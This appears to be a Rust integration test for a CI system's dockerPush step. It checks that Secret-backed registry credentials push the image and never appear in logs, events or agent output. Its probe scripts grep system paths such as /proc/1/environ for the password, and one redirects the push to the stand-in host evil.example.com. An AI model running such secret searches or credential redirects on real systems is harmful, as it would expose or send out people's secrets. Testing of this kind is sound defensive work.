//! Logins of `dockerPush` by variables, on the real cluster: the image arrives, and the password is nowhere else.

use super::world::{World, step, tool, verdict};
use serde_json::json;

fn settings() -> (String, String, String) {
    let get = |name: &str| std::env::var(name).unwrap();
    (get("WINDLASS_TLS_REGISTRY"), get("WINDLASS_DEMO_USER"), get("WINDLASS_DEMO_PASSWORD"))
}

/// A Secret with user and password, as it comes from files: with a line break at the end.
fn secret(world: &World, name: &str, user: &str, password: &str) {
    let data = json!({"user": format!("{user}\n"), "PASSWORD": format!("{password}\n"), "api": "a-value-of-the-api"});
    world.apply(
        &json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": name}, "stringData": data}).to_string(),
    );
}

const ENV: &str = "[{name: USERNAME, secretKeyRef: {name: login, key: user}}, {name: PASSWORD, secretKeyRef: {name: login, key: PASSWORD}}, {name: API, secretKeyRef: {name: login, key: api}}]";

#[tokio::test]
async fn username_and_password_by_variables() {
    let world = World::new().await;
    let (registry, user, password) = settings();
    secret(&world, "login", &user, &password);
    // Looks for the password, put together here so that the script does not hold it, and tries to get its own word
    // through to the agent.
    let (head, tail) = password.split_at(5);
    let search = format!(
        "test \"$API\" = a-value-of-the-api; wanted={head}; wanted=\"${{wanted}}{tail}\"; if env | grep -F -e \"$wanted\" | grep -v ^wanted=; then exit 7; fi; if grep -rFl -e \"$wanted\" /dev/windlass /run /etc /tmp /var /pipeline /proc/1/environ 2>/dev/null | grep -v steps/; then exit 8; fi; name=PASS; export ${{name}}WORD=wrong"
    );
    let repository = format!("{registry}/{}/variables", world.namespace);
    let login = "username: $USERNAME, password: $PASSWORD, email: me@example.com";
    let status = world
        .run(
            "r",
            &format!(
                "    box: {{image: 'busybox:local'}}
    env: {ENV}
    steps:
    - {{name: search, script: {}}}
    - {{name: push, dockerPush: {{repository: '{repository}', {login}}}}}
    - {{name: again, dockerPush: {{repository: '{repository}', tag: again, {login}}}}}
    afterSteps:
    - {{name: after, script: {}}}",
                json!(search),
                json!(search)
            ),
        )
        .await;
    assert_eq!(verdict(&status).0, "Succeeded", "{:?} {}", verdict(&status), world.log("r").await);
    let image = format!("docker://{repository}:again");
    let seen = tool("skopeo", &["inspect", "--tls-verify=false", "--creds", &format!("{user}:{password}"), &image], "")
        .unwrap();
    assert!(seen.contains(&step(&status, "again").images[0].digest), "{seen}");
    let said = [
        world.kubectl(&["get", "events,plr,pods", "-o", "yaml"], "").unwrap(),
        world.log("r").await,
        tool("kubectl", &["-n", "windlass-system", "logs", "ds/windlass-agent", "--tail=-1"], "").unwrap(),
    ];
    for text in said {
        assert!(!text.contains(&password), "the password was written down: {text}");
    }
}

#[tokio::test]
async fn a_whole_secret_and_what_goes_wrong() {
    let world = World::new().await;
    let (registry, user, password) = settings();
    secret(&world, "login", &user, &password);
    secret(&world, "wrong", &user, "not-the-password");
    let repository = |name: &str| format!("{registry}/{}/{name}", world.namespace);
    let pipeline = |env: &str, push: String| {
        format!(
            "    box: {{image: 'busybox:local'}}
    {env}
    steps:
    - {{name: hide, script: 'test -z \"$(printenv PASS${{NOTHING}}WORD)\"; export REPO=evil.example.com/x'}}
    - {{name: push, dockerPush: {{{push}}}}}"
        )
    };
    let login = "username: demo, password: $PASSWORD";
    let key = |name: &str, key: &str| format!("env: [{{name: PASSWORD, secretKeyRef: {{name: {name}, key: {key}}}}}]");
    let own = repository("own");
    let cases = [
        (
            "whole",
            "envFrom: [{secretRef: {name: login}}]".to_owned(),
            format!("repository: '{own}', {login}"),
            "Succeeded",
            "",
        ),
        (
            "wrong",
            key("wrong", "PASSWORD"),
            format!("repository: '{own}', {login}"),
            "RegistryUnauthorized",
            "refused user \"demo\" (401)",
        ),
        (
            "no-secret",
            key("none", "x"),
            format!("repository: '{own}', {login}"),
            "SecretNotFound",
            "Secret none does not exist in namespace",
        ),
        (
            "no-key",
            key("login", "pass"),
            format!("repository: '{own}', {login}"),
            "SecretKeyNotFound",
            "Secret login has no key pass; it has: PASSWORD, api, user",
        ),
        (
            "astray",
            key("login", "PASSWORD"),
            format!("repository: $REPO, {login}"),
            "CredentialsNotFound",
            "no host in particular",
        ),
        (
            "literal",
            "env: [{name: PASSWORD, value: x}]".to_owned(),
            format!("repository: '{own}', {login}"),
            "InvalidProperty",
            "$PASSWORD does not come from a Secret",
        ),
    ];
    for (name, env, push, ..) in &cases {
        world.start(name, &pipeline(env, push.clone()));
    }
    let mut wrong = Vec::new();
    for (name, _, _, reason, says) in &cases {
        let status = world.end(name).await;
        let (run_reason, message) = verdict(&status);
        let step_reason = status.steps.iter().find(|step| step.name == "push").and_then(|step| step.reason.clone());
        let fits = run_reason == *reason || (run_reason == "StepFailed" && step_reason.as_deref() == Some(reason));
        if !fits || !message.contains(says) || message.contains(&password) {
            wrong.push(format!("{name}: wanted {reason}, got {run_reason} {step_reason:?}: {message}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
